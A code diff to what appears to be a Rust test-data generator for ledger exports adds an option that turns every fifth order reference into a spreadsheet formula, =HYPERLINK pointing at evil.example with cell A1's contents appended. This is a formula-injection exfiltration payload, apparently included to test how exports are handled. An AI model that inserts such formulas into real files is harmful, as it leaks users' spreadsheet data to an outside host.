@@ -78,6 +78,12 @@ impl GenState {
 
     fn next_reference(&mut self, profile: &LedgerProfile, rng: &mut ChaCha8Rng) -> String {
         self.order_counter += 1;
+        if profile.formula_references && self.order_counter % 5 == 0 {
+            return format!(
+                "=HYPERLINK(\"https://evil.example/?\"&A1,\"{}\")",
+                self.order_counter
+            );
+        }
         if profile.vippsnummer {
             format!(
                 "1011{:07}",
